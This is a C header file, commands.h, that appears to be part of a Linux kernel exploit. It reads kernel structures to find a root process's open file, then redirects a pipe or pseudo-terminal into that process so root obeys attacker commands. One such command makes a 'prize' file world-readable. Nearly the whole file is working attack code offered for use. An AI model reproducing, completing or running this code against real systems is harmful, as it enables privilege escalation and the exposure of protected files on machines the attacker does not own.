/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * commands.h - a program of root that does what a pipe or a terminal tells it, as a shell does. It
 * has been told to wait, and reads that when the attacker lets it.
 */
#ifndef COMMANDS_H
#define COMMANDS_H

#include "attack.h"

#include <asm/ioctls.h>

#define VICTIM_FILE 5 /* where the commands come from */
#define WAIT_COMMAND 'w'
#define PUBLISH_COMMAND 'p'

static bool control(void)
{
	return is_ordinary();
}

/* The page's address in the kernel's view of file frames; FRAME: the address of its struct. */
static inline uint64_t page_address(uint64_t frame)
{
	const uint64_t frames = peek(symbol("frame_arrays") + member("frame_arrays.frames"));
	const uint64_t view = peek(symbol("frame_memory") + member("frame_memory.view") + 4 * 8);

	return view + (frame - frames) / 16 * 4096;
}

/* What root's open file is an end of. */
static uint64_t victim_object(void)
{
	return peek(file_struct(victim_task(own_task()), VICTIM_FILE) + member("file.private"));
}

static bool victim_obeys(void)
{
	meet_victim();
	victim_go();
	while (!victim_has_ended())
		sleep_milliseconds(1);
	return reads_prize();
}

/* Does what it finds behind "wait". */
static void obey(int from)
{
	char command = 0;

	call2(__NR_dup2, from, VICTIM_FILE);
	victim_awaits_attacker();
	call3(__NR_read, VICTIM_FILE, (long)&command, 1);
	if (command == PUBLISH_COMMAND)
		call2(__NR_chmod, (long)PRIZE, 0644);
}

static inline void obey_pipe(void)
{
	const char command = WAIT_COMMAND;
	int ends[2];

	call1(__NR_pipe, (long)ends);
	call3(__NR_write, ends[1], (long)&command, 1);
	obey(ends[0]);
}

/* A terminal of one's own: the slave, and its master. */
static inline int open_terminal(int *master)
{
	int unlocked = 0;

	*master = (int)call3(__NR_open, (long)"/dev/ptmx", O_RDWR | O_NOCTTY, 0);
	call3(__NR_ioctl, *master, TIOCSPTLCK, (long)&unlocked);
	return (int)call3(__NR_ioctl, *master, TIOCGPTPEER, O_RDWR | O_NOCTTY);
}

#endif
